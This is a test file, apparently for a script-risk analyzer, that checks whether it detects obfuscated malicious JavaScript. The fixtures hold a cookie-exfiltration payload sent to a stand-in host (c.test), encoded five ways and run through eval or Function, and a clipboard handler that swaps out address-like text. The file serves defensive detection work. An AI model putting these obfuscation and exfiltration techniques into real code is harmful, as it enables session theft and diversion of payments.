import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf, traceOf } from "../testing/trace-of.ts";

const PROGRAM = `fetch("https://c.test/?" + document.cookie)`;
const CODES = [...PROGRAM].map((sign) => sign.charCodeAt(0));
const BITS = CODES.map((code) => code.toString(2).padStart(8, "0")).join("");
const THIN = BITS.replaceAll("0", "\u200b").replaceAll("1", "\u200c");

/** Programs that come out of signs piece by piece; the text is only known when every piece is followed. */
describe("decoders", () => {
	test.each([
		[
			"bits cut off eight by eight",
			`const bits = [...${JSON.stringify(THIN)}].map((sign) => (sign.codePointAt(0) === 0x200c ? 1 : 0)); let made = ""; while (bits.length > 7) made += String.fromCharCode(bits.splice(0, 8).reduce((sum, bit) => sum * 2 + bit, 0)); eval(made);`,
		],
		[
			"bits in a text of parts",
			`let made = ""; for (const part of "${BITS}".match(/.{8}/g)) made += String.fromCharCode(parseInt(part, 2)); Function(made)();`,
		],
		[
			"numbers in pairs",
			`const pairs = [${CODES.map((code) => `[${code >> 4},${code & 15}]`).join()}]; eval(pairs.map(([high, low]) => String.fromCharCode(high * 16 + low)).join(""));`,
		],
		[
			"slices of a text",
			`const text = "${CODES.map((code) => code.toString(16)).join("")}"; const made = []; for (let at = 0; at < text.length; at += 2) made.push(String.fromCharCode(parseInt(text.slice(at, at + 2), 16))); eval(made.join(""));`,
		],
		[
			"a list in rows",
			`const rows = []; const codes = [${CODES.join()}]; for (let at = 0; at < codes.length; at += 4) rows.push(codes.slice(at, at + 4)); eval(rows.map((row) => String.fromCharCode(...row)).join(""));`,
		],
	])("%s", (_title, code) => {
		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^request fetch > third-party c\.test < url cookie/));
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test("a secret behind many lists is still found", () => {
		const many = Array.from({ length: 500 }, (_, at) => `[${at}]`).join();
		expect(
			analyzeScript({
				code: `fetch("https://c.test", { method: "POST", body: JSON.stringify([${many}, [document.cookie]]) });`,
			}),
		).toMatchObject({ risk_level: "red" });
	});
});

describe("a text nobody knows", () => {
	test("keeps a replacement of a part", () => {
		const { sinks } = traceOf(
			`document.addEventListener("copy", (event) => { GM_setClipboard(JSON.parse(localStorage.x).text.replace(/T\\w{33}/, "REPLACED")); });`,
		);
		expect(sinks.flatMap(({ details }) => details.text ?? [])).toContainEqual(expect.stringContaining("REPLACED"));
	});
});
